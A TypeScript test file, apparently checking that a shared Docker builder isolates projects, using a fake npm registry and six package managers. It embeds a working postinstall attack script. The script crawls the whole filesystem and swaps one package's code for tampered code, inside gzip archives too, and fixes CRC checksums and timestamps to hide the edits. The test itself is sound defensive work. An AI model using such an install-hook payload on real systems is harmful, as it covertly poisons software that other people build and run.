import * as fs from 'fs';
import * as path from 'path';
import { answer, build, built, cleanUp, contextOf, docker, start, stop, temporaryDirectory } from './engine';

// The scripts of what one project depends on edit everything that they can write. Another project, on the same builder,
// gets what its lockfile says.

const PORT = 4873;
/** Names that no cache of an earlier run holds. */
const RUN = Date.now().toString(36);
const VICTIM = `quay-${RUN}`;
const ATTACKER = `squall-${RUN}`;
const GOOD = 'module.exports = "moored";\n';
const EVIL = 'module.exports = "adrift";\n';

/** Looks through all file systems for the code, packed or not, and puts its own in place of it, leaving times as they were. */
const ATTACK = `
const fs = require('fs'), zlib = require('zlib'), path = require('path');
const good = Buffer.from(${JSON.stringify(GOOD)}), evil = Buffer.from(${JSON.stringify(EVIL)});
const word = n => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };
const swaps = [[good, evil], ...zlib.crc32 ? [[word(zlib.crc32(good)), word(zlib.crc32(evil))]] : []];
const swap = bytes => {
  if (!bytes.includes(good)) return undefined;
  const copy = Buffer.from(bytes);
  for (const [from, to] of swaps) for (let at = copy.indexOf(from); at !== -1; at = copy.indexOf(from, at + 1)) to.copy(copy, at);
  return copy;
};
const edit = file => {
  const stats = fs.lstatSync(file);
  if (!stats.isFile() || stats.size === 0 || stats.size > 1e6) return;
  let bytes = fs.readFileSync(file), changed = swap(bytes);
  if (!changed && bytes[0] === 0x1f && bytes[1] === 0x8b) { const inner = swap(zlib.gunzipSync(bytes)); changed = inner && zlib.gzipSync(inner); }
  if (!changed) return;
  fs.chmodSync(file, 0o644); fs.writeFileSync(file, changed); fs.utimesSync(file, stats.atime, stats.mtime);
  console.log('edited ' + file); fs.appendFileSync('/edited', file + '\\n');
};
const walk = directory => {
  for (const entry of fs.readdirSync(directory, { withFileTypes: true })) {
    const file = path.join(directory, entry.name);
    if (['/proc', '/sys', '/dev', '/usr/lib', '/usr/share', '/usr/include', '/usr/local/lib', '/usr/local/include'].includes(file)) continue;
    try { entry.isDirectory() ? walk(file) : edit(file); } catch {}
  }
};
fs.appendFileSync('/edited', 'ran\\n');
walk('/');
`;

/** A registry with both packages. */
const REGISTRY = `
const { execSync } = require('child_process');
const { createHash } = require('crypto');
const fs = require('fs');
const packages = {
  '${VICTIM}': [{}, { 'index.js': ${JSON.stringify(GOOD)} }],
  '${ATTACKER}': [{ scripts: { postinstall: 'node attack.js' } }, { 'index.js': '', 'attack.js': ${JSON.stringify(ATTACK)} }],
};
for (const [name, [fields, files]] of Object.entries(packages)) {
  const directory = '/tmp/' + name + '/package';
  fs.mkdirSync(directory, { recursive: true });
  const manifest = { name, version: '1.0.0', main: 'index.js', ...fields };
  for (const [file, text] of Object.entries({ ...files, 'package.json': JSON.stringify(manifest) })) fs.writeFileSync(directory + '/' + file, text);
  execSync('tar -czf /tmp/' + name + '.tgz -C /tmp/' + name + ' package');
  packages[name] = { manifest, archive: fs.readFileSync('/tmp/' + name + '.tgz') };
}
require('http').createServer((request, response) => {
  const found = packages[request.url.split('/')[1]];
  if (!found) return response.writeHead(404).end('{}');
  const { manifest, archive } = found;
  if (request.url.endsWith('.tgz')) return response.end(archive);
  const hash = (name, encoding) => createHash(name).update(archive).digest(encoding);
  const dist = { tarball: 'http://' + request.headers.host + '/' + manifest.name + '/-/' + manifest.name + '-1.0.0.tgz', shasum: hash('sha1', 'hex'), integrity: 'sha512-' + hash('sha512', 'base64') };
  response.setHeader('content-type', 'application/json');
  response.end(JSON.stringify({
    name: manifest.name, 'dist-tags': { latest: '1.0.0' }, time: { '1.0.0': '2020-01-01T00:00:00.000Z' },
    versions: { '1.0.0': { ...manifest, hasInstallScript: manifest.scripts !== undefined, dist } },
  }));
}).listen(${PORT});
`;

const NODE = 'public.ecr.aws/docker/library/node:24-trixie';

interface Manager {
  readonly title: string;
  readonly name: string;
  readonly lockfile: string;
  /** What gets a lockfile. */
  readonly lock: string;
  readonly fields?: object;
  files(registry: string): Record<string, string>;
}

const npmrc = (registry: string) => ({ '.npmrc': `registry=${registry}\n` });
const berry = (linker: string) => (registry: string) => ({
  '.yarnrc.yml': `nodeLinker: ${linker}\nenableScripts: true\nnpmRegistryServer: "${registry}"\nunsafeHttpWhitelist: ["*"]\n`,
});

const MANAGERS: readonly Manager[] = [
  { title: 'npm', name: 'npm@11.6.0', lockfile: 'package-lock.json', lock: 'npm install --package-lock-only', files: npmrc },
  { title: 'Yarn 1', name: 'yarn@1.22.22', lockfile: 'yarn.lock', lock: 'yarn install --ignore-scripts', files: npmrc },
  {
    title: 'Yarn 4 with node_modules', name: 'yarn@4.18.1', lockfile: 'yarn.lock', files: berry('node-modules'),
    lock: 'yarn install --mode=update-lockfile --no-immutable',
  },
  {
    title: 'Yarn 4 with Plug\'n\'Play', name: 'yarn@4.18.1', lockfile: 'yarn.lock', files: berry('pnp'),
    lock: 'yarn install --mode=update-lockfile --no-immutable',
  },
  {
    title: 'pnpm', name: 'pnpm@10.34.9', lockfile: 'pnpm-lock.yaml', lock: 'pnpm install --lockfile-only', files: npmrc,
    fields: { pnpm: { onlyBuiltDependencies: [ATTACKER] } },
  },
  {
    title: 'Bun', name: 'bun@1.4.5', lockfile: 'bun.lock', lock: 'bun install --lockfile-only', files: npmrc,
    fields: { trustedDependencies: [ATTACKER] },
  },
];

let registry: string;

beforeAll(() => {
  const { id } = start(NODE, { command: ['node', '-e', REGISTRY] });
  registry = `http://${docker('inspect', '--format', '{{.NetworkSettings.IPAddress}}', id)}:${PORT}/`;
});

afterAll(() => cleanUp());

/** A project with these dependencies, and the lockfile that its manager writes. */
function project(manager: Manager, name: string, dependencies: readonly string[]): string {
  const directory = temporaryDirectory();
  const files = {
    'package.json': JSON.stringify({
      name, version: '1.0.0', packageManager: manager.name, engines: { node: '24' }, ...manager.fields,
      dependencies: Object.fromEntries(dependencies.map(dependency => [dependency, '1.0.0'])),
      scripts: { start: 'node server.js', test: 'node --check server.js' },
    }),
    'server.js': `require("http").createServer((request, response) => response.end(require("${VICTIM}"))).listen(3000);\n`,
    ...manager.files(registry),
  };
  Object.entries(files).forEach(([file, text]) => fs.writeFileSync(path.join(directory, file), text));
  const locking = temporaryDirectory();
  fs.cpSync(directory, locking, { recursive: true });
  fs.writeFileSync(path.join(locking, 'Dockerfile'), `FROM ${NODE} AS lock\nRUN npm install --global --force ${manager.name.replace(/^yarn@4/, '@yarnpkg/cli-dist@4')}\nWORKDIR /lock\nCOPY . ./\nRUN rm Dockerfile && ${manager.lock}\nFROM scratch\nCOPY --from=lock /lock/${manager.lockfile} /\n`);
  const output = temporaryDirectory();
  built(locking, { output });
  fs.copyFileSync(path.join(output, manager.lockfile), path.join(directory, manager.lockfile));
  return directory;
}

test.each(MANAGERS)('with $title no script of a dependency reaches the image of another project', async manager => {
  const attacker = contextOf(project(manager, 'attacker', [VICTIM, ATTACKER]));
  const attacked = build(attacker, { target: 'deps', noCache: true });
  if (!attacked.ok) throw new Error(attacked.log.slice(-4000));
  const edited = docker('run', '--rm', '--entrypoint', 'cat', attacked.image, '/edited').split('\n');

  const victim = built(contextOf(project(manager, 'victim', [VICTIM])));
  const container = start(victim, { ports: [3000] });

  // it ran, and could have its way with its own project
  expect(edited[0]).toBe('ran');
  expect((await answer(container, container.url(3000))).body).toBe('moored');
  stop(container);
});
